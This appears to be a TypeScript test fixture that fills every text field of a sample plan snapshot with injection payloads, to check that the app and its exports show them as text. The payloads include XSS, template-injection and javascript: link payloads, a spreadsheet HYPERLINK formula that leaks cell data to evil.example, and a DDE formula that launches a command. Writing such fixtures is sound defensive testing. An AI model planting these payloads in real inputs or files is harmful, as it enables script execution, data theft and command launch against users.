import { planSnapshotSchema, type PlanSnapshot } from '../../shared/bundle/snapshot';
import { samplePlan } from './sample-plan';

/**
 * The sample plan with script and markup in every text field a user or a
 * file can fill: what the app and every export must show as text and never
 * run. The schema decides what a text field is: each string in the snapshot
 * gets the next payload if the plan stays valid, else the nastiest value its
 * format allows (a web address, an e-mail address), else it stays as it was
 * (ids, dates, choices from a list).
 */

/** Each sets `window.__pwned` if it ever runs; the number after `#` keeps names apart. */
export const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '"><svg onload="window.__pwned=1">',
  "{{constructor.constructor('window.__pwned=1')()}}",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '[click me](javascript:window.__pwned=1) ![x](https://evil.example/pixel.png)',
  '<a href="javascript:window.__pwned=1">a link</a>',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '+1+1 <b>bold</b> ${window.__pwned=1} `code` | cell | # heading',
] as const;

/** For free text that may span lines: a formula on the first line, HTML and Markdown blocks below. */
const MULTILINE =
  '=1+1\n<script>window.__pwned=1</script>\n# Not a heading\n- not a list\n<div onmouseover="window.__pwned=1">x</div>';

/** Valid in fields with a format, and still hostile: markup in a URL, a formula-like start elsewhere. */
const FORMATTED = [
  'https://evil.example/"><img src=x onerror="window.__pwned=1">',
  "-1+1'x@evil.example",
  '+1 (555) 010-0100',
];

type Json = string | number | boolean | null | Json[] | { [key: string]: Json };

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function asJson(value: unknown): Json {
  if (
    value === null ||
    typeof value === 'string' ||
    typeof value === 'number' ||
    typeof value === 'boolean'
  ) {
    return value;
  }
  if (Array.isArray(value)) return value.map(asJson);
  if (isRecord(value))
    return Object.fromEntries(Object.entries(value).map(([key, child]) => [key, asJson(child)]));
  throw new TypeError(`not JSON: ${typeof value}`);
}

interface Leaf {
  value: string;
  set: (value: string) => void;
}

function stringLeaves(value: Json, out: Leaf[] = []): Leaf[] {
  if (Array.isArray(value)) {
    value.forEach((child, index) => {
      if (typeof child === 'string') out.push({ value: child, set: (next) => (value[index] = next) });
      else stringLeaves(child, out);
    });
  } else if (value !== null && typeof value === 'object') {
    for (const [key, child] of Object.entries(value)) {
      if (typeof child === 'string') out.push({ value: child, set: (next) => (value[key] = next) });
      else stringLeaves(child, out);
    }
  }
  return out;
}

export interface PayloadPlan {
  snapshot: PlanSnapshot;
  /** How many text fields got a payload, and how many a hostile formatted value. */
  payloads: number;
  formatted: number;
}

export function payloadPlan(): PayloadPlan {
  const tree = asJson(samplePlan());
  let payloads = 0;
  let formatted = 0;
  const valid = () => planSnapshotSchema.safeParse(tree).success;
  for (const leaf of stringLeaves(tree)) {
    const n = payloads + 1;
    // The payloads in turn, starting with this field's, so a short field (a phone label) still gets one.
    const rotated = PAYLOADS.map(
      (_, index) => `${PAYLOADS[(payloads + index) % PAYLOADS.length] ?? ''} #${n}`,
    );
    // Every third field tries the lines first, so descriptions and notes get them too.
    const lines = `${MULTILINE} #${n}`;
    const candidates = [...(n % 3 === 0 ? [lines, ...rotated] : [...rotated, lines]), ...FORMATTED];
    const original = leaf.value;
    const chosen = candidates.find((candidate) => {
      leaf.set(candidate);
      return valid();
    });
    if (chosen === undefined) leaf.set(original);
    else if (chosen.includes(` #${n}`)) payloads += 1;
    else formatted += 1;
  }
  return { snapshot: planSnapshotSchema.parse(tree), payloads, formatted };
}
